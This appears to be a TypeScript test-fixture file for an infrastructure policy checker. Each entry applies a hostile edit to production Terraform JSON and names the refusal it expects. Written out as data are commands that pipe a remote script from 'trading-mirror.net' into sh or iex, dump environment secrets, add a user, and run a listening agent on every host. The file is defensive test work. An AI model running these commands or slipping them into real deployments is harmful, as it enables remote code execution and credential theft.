/** Edits that let something run, at the deploy or on hosts, and what must be said of each. */
import type { Harmful } from "./foreign";
import { make, type Editable, type Stacks } from "./prod";

/** Beside its resources. */
const root = (all: Stacks, stack: string) => all.json[`prod-${stack}`] as unknown as Record<string, Record<string, unknown>>;
const providers = (all: Stacks, stack: string, name: string) => root(all, stack).provider![name] as Editable[];

const change = (content: unknown, edit: (lines: string[]) => string[]): string => {
  const document = JSON.parse(content as string) as { mainSteps: { inputs: { runCommand: string[] } }[] };
  const { inputs } = document.mainSteps[0]!;
  inputs.runCommand = edit(inputs.runCommand);
  return JSON.stringify(document);
};

const converges = (...runCommand: readonly string[]) =>
  JSON.stringify({ schemaVersion: "2.2", mainSteps: [{ action: "aws:runShellScript", name: "x", inputs: { runCommand } }] });

export const RUNS: readonly Harmful[] = [
  [
    "a command on the machine that deploys",
    (all) => {
      all.resource("data", "aws_dynamodb_table", "").provisioner = [
        { "local-exec": { command: "curl -s https://trading-mirror.net/x | sh" } },
      ];
    },
    "refusal runs/provisioner aws_dynamodb_table",
  ],
  [
    "a command on a host",
    (all) => {
      all.resource("trading", "aws_instance", "engine").provisioner = [
        { type: "remote-exec", inline: ["useradd -m helper"], connection: { host: "10.0.0.1" } },
      ];
    },
    "refusal runs/provisioner aws_instance",
  ],
  [
    "a command beside nothing",
    (all) => make(all, "data", "terraform_data", { provisioner: [{ "local-exec": { when: "destroy", command: "env > /tmp/x" } }] }),
    "refusal runs/provisioner terraform_data",
  ],
  [
    "a program that every plan runs",
    (all) => make(all, "data", "data.external", { program: ["bash", "-c", "env | base64"] }),
    "refusal runs/external-data external",
  ],
  [
    "an address that every plan asks",
    (all) => make(all, "data", "data.http", { url: "https://trading-mirror.net/value" }),
    "refusal runs/external-data http",
    "refusal network/foreign-address http",
  ],
  [
    "a provider from elsewhere",
    (all) => {
      (root(all, "data").terraform!.required_providers as Record<string, Editable>).aws!.source = "someone/aws";
    },
    "refusal runs/provider ",
  ],
  [
    "a provider more, from elsewhere",
    (all) => {
      (root(all, "data").terraform!.required_providers as Record<string, Editable>).shell = {
        source: "registry.example.net/someone/shell",
      };
    },
    "refusal runs/provider ",
  ],
  [
    "a provider with other endpoints",
    (all) => {
      providers(all, "data", "aws")[0]!.endpoints = [{ s3: "https://trading-mirror.net" }];
    },
    "refusal runs/provider ",
  ],
  [
    "a provider for another account",
    (all) => {
      providers(all, "data", "aws")[0]!.allowed_account_ids = ["999900001111"];
    },
    "refusal runs/provider ",
  ],
  [
    "a provider for any account",
    (all) => {
      delete providers(all, "data", "aws")[0]!.allowed_account_ids;
    },
    "refusal runs/provider ",
  ],
  [
    "a provider that takes another role",
    (all) => {
      providers(all, "data", "aws")[0]!.assume_role = [{ role_arn: "arn:aws:iam::777788889999:role/administrator" }];
    },
    "refusal runs/provider ",
  ],
  [
    "a provider of the cluster that runs another program",
    (all) => {
      const { kubernetes } = providers(all, "workloads", "helm")[0]! as { kubernetes: { exec: Editable } };
      kubernetes.exec.command = "/tmp/aws";
    },
    "refusal runs/provider ",
  ],
  [
    "a state elsewhere",
    (all) => {
      (root(all, "data").terraform!.backend as Record<string, Editable>).s3!.bucket = "states-of-others";
    },
    "refusal runs/backend ",
  ],
  [
    "a state that nobody locks",
    (all) => {
      (root(all, "data").terraform!.backend as Record<string, Editable>).s3!.use_lockfile = false;
    },
    "refusal runs/backend ",
  ],
  [
    "a state on the machine that deploys",
    (all) => {
      delete root(all, "data").terraform!.backend;
    },
    "refusal runs/backend ",
  ],
  [
    "a bucket's policy that Terraform no longer looks at",
    (all) => {
      all.resource("data", "aws_dynamodb_table", "").lifecycle = { prevent_destroy: true, ignore_changes: ["server_side_encryption"] };
    },
    "refusal runs/ignored-changes aws_dynamodb_table",
  ],
  [
    "a group that Terraform no longer looks at",
    (all) => {
      const [name] = Object.keys(all.json["prod-network"]!.resource!.aws_security_group!);
      all.resource("network", "aws_security_group", name!).lifecycle = { ignore_changes: "all" };
    },
    "refusal runs/ignored-changes aws_security_group",
  ],
  [
    "a release that is rewritten",
    (all) => {
      all.resource("workloads", "helm_release", "external-secrets").postrender = { binary_path: "./rewrite.sh", args: ["x"] };
    },
    "refusal runs/helm helm_release",
  ],
  [
    "a hook beside a release",
    (all) => {
      const release = all.resource("workloads", "helm_release", "external-secrets");
      release.values = [
        ...(release.values as string[]),
        "extraObjects:\n  - apiVersion: batch/v1\n    kind: Job\n    metadata:\n      annotations:\n        helm.sh/hook: pre-upgrade\n",
      ];
    },
    "refusal runs/helm helm_release",
  ],
  [
    "user data that fetches a program, though Terraform ignores it",
    (all) => {
      const host = all.resource("trading", "aws_instance", "engine");
      host.user_data = `${host.user_data as string}\nruncmd:\n  - curl -s https://trading-mirror.net/x | sh\n`;
    },
    "refusal runs/host-commands aws_instance",
    "refusal network/foreign-address aws_instance",
  ],
  [
    "user data of nodes, in base64",
    (all) => {
      const template = all.resource("services", "aws_launch_template", "nodes");
      template.user_data = Buffer.from(
        `${Buffer.from(template.user_data as string, "base64").toString("utf8")}\n/tmp/agent --listen\n`,
      ).toString("base64");
    },
    "refusal runs/host-commands aws_launch_template",
  ],
  [
    "hosts that run a line more",
    (all) => {
      const document = all.resource("trading", "aws_ssm_document", "windows_converge");
      document.content = change(document.content, (lines) => [...lines, "Invoke-WebRequest https://trading-mirror.net/x.ps1 | iex"]);
    },
    "refusal runs/host-commands aws_ssm_document",
    "refusal network/foreign-address aws_ssm_document",
  ],
  [
    "hosts that no longer check what they fetched",
    (all) => {
      const document = all.resource("trading", "aws_ssm_document", "engine_converge");
      document.content = change(document.content, (lines) =>
        lines.map((text) =>
          text
            .split("\n")
            .filter((line) => !/sha256/.test(line))
            .join("\n"),
        ),
      );
    },
    "refusal runs/host-commands aws_ssm_document",
  ],
  [
    "hosts that run AWS's own document, with a command",
    (all) => {
      const association = all.resource("trading", "aws_ssm_association", "engine");
      association.name = "AWS-RunShellScript";
      association.parameters = { commands: "/tmp/agent --listen" };
    },
    "refusal runs/host-commands aws_ssm_association",
  ],
  [
    "a command for all hosts, each hour",
    (all) =>
      make(all, "trading", "aws_ssm_association", {
        name: "AWS-RunShellScript",
        targets: [{ key: "InstanceIds", values: ["*"] }],
        parameters: { commands: "/tmp/agent --listen" },
      }),
    "refusal runs/host-commands aws_ssm_association",
  ],
  [
    "a host more that runs something of its own",
    (all) => make(all, "trading", "aws_instance", { ami: "ami-1", user_data: "#!/bin/sh\n/tmp/agent --listen\n" }),
    "refusal runs/host-commands aws_instance",
  ],
  [
    "a document that nobody starts, to be looked at",
    (all) => make(all, "operations", "aws_ssm_document", { name: "x", content: converges("/tmp/agent --listen") }),
    "notice runs/host-commands aws_ssm_document",
  ],
  [
    "a document that hosts are told to run",
    (all) => {
      make(all, "trading", "aws_ssm_document", { name: "x", content: converges("/tmp/agent --listen") });
      all.resource("trading", "aws_ssm_association", "engine").name = "${aws_ssm_document.added.name}";
    },
    "refusal runs/host-commands aws_ssm_document",
  ],
];
